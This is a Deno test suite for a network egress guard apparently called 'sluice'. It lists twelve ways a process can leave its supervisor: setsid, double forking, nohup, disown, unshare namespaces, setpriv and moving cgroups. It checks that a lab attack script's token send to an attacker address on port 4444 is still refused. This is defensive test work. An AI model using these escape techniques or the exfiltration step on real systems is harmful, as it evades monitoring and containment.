/** Processes that leave their parent, session, group or namespaces behind. */
import assert from "node:assert/strict";
import { Lab } from "../lab/lab.ts";
import { ADDRESSES } from "../lab/topology.ts";
import { waitUntil } from "../lab/wait.ts";
import { RUN_TIMEOUT_MS } from "./cell.ts";
import { assertGone, isGone } from "./leftovers.ts";
import { runGuarded, sendLine, startRun } from "./lab_run.ts";

const NOBODY = 65534;

/** In a script, `$0` is the file that runs the attack and notes its code. */
const WAYS: readonly { name: string; script: string; user?: number }[] = [
  { name: "a child", script: "bash $0; wait" },
  { name: "a grandchild", script: "bash -c 'bash $0; true' $0" },
  { name: "a process of its own session", script: "setsid --wait bash $0" },
  {
    name: "a daemon that was forked twice",
    script: "(setsid bash -c 'bash $0 & exit' $0 &); sleep 1",
  },
  { name: "a process under nohup", script: "nohup bash $0 | cat" },
  {
    name: "a process that the shell has disowned",
    script: "bash $0 & disown; sleep 1",
  },
  {
    name: "a process in namespaces of its own",
    script: "unshare --fork --pid --mount-proc --uts --ipc bash $0",
  },
  {
    name: "a process in a user namespace of its own",
    script: "unshare --user --map-root-user bash $0",
  },
  { name: "a process of another user", script: "setpriv --reuid 1 bash $0" },
  {
    name: "a user without rights who moves to another cgroup",
    script: `for file in $(find /sys/fs/cgroup -name cgroup.procs); do
        echo $$ 2>/dev/null > "$file" && echo moved; done 2>/dev/null
      bash $0`,
    user: NOBODY,
  },
  {
    name: "a process in a cgroup below its own",
    script: `own=$(find /sys/fs/cgroup -type d -name "run-$PPID")
      [ -z "$own" ] || { mkdir $own/below && echo $$ > $own/below/cgroup.procs; }
      bash $0`,
  },
  {
    name: "a process that was started by a program without libc",
    script: 'perl -e \'exec {"/bin/bash"} "bash", @ARGV\' $0',
  },
];

for (const { name, script, user } of WAYS) {
  Deno.test(`sluice run refuses ${name}`, async () => {
    await using lab = await Lab.up();
    const attack = await writeAttack(lab);
    const command = ["bash", "-c", script, attack];
    await lab.in("run", command, { user });
    assert.equal(await codeOf(lab), "0");
    await lab.attacker.waitFor("token-of-mine");

    await using capture = await lab.capture(`host ${ADDRESSES.attacker.ipv4}`);
    const { stdout, stderr } = await runGuarded(lab, {
      command: command,
      user,
      allow: ["allowed.test"],
    });
    assert.equal(await codeOf(lab), "1", stderr);
    assert.equal(stdout, "allowed\n", stderr);
    assert.deepEqual(await capture.stop(), []);
    assert.match(stderr, /^- +203\.0\.113\.66 +4444 +tcp .*refused$/m);
  });
}

Deno.test("sluice run ends in block mode what the command leaves behind, and says what", async () => {
  await using lab = await Lab.up();
  await using sluice = await startRun(lab, [
    ...["bash", "-c", "setsid sleep 60 >/dev/null 2>&1 & echo $!; sleep 0.2"],
  ]);
  const { code, stdout, stderr } = await sluice.finished(RUN_TIMEOUT_MS);
  assert.equal(code, 0);
  const pid = stdout.trim();
  assert.ok(
    stderr.includes(
      `sluice: Ended what the command left behind: ${pid} (/usr/bin/sleep)\n`,
    ),
    stderr,
  );
  await waitUntil(() => isGone(pid), { what: "the end of what was left" });
  await assertGone(sluice.pid);
});

Deno.test("sluice run lets live in audit what the command leaves behind, and says so", async () => {
  await using lab = await Lab.up();
  const later = `until [ -e go ]; do sleep 0.05; done; ${
    sendLine("after-the-end")
  }`;
  await using sluice = await startRun(lab, {
    command: [
      ...["bash", "-c", `setsid bash -c '${later}' >/dev/null 2>&1 & echo $!`],
    ],
    egress: "audit",
  });
  const { code, stdout, stderr } = await sluice.finished(RUN_TIMEOUT_MS);
  assert.equal(code, 0);
  assert.match(
    stderr,
    new RegExp(`No longer watched, still running: ${stdout.trim()} \\(`),
  );
  await assertGone(sluice.pid);
  await Deno.writeTextFile(`${lab.directory}/go`, "");
  await lab.attacker.waitFor("after-the-end");
});

/** Tries, notes its code, and shows that the allowed is still there. */
async function writeAttack(lab: Lab): Promise<string> {
  const path = `${lab.directory}/attack.sh`;
  await Deno.writeTextFile(
    path,
    `${sendLine("token-of-mine")}; echo $? > ${lab.directory}/code
    curl -sS -o /dev/null https://allowed.test/ && echo allowed\n`,
  );
  await Deno.writeTextFile(`${lab.directory}/code`, "none");
  await Deno.chmod(`${lab.directory}/code`, 0o666);
  return path;
}

async function codeOf(lab: Lab): Promise<string> {
  const path = `${lab.directory}/code`;
  let code = "";
  await waitUntil(async () => {
    code = (await Deno.readTextFile(path)).trim();
    return code !== "none" && code !== "";
  }, { what: "the attack's code" });
  await Deno.writeTextFile(path, "none");
  return code;
}
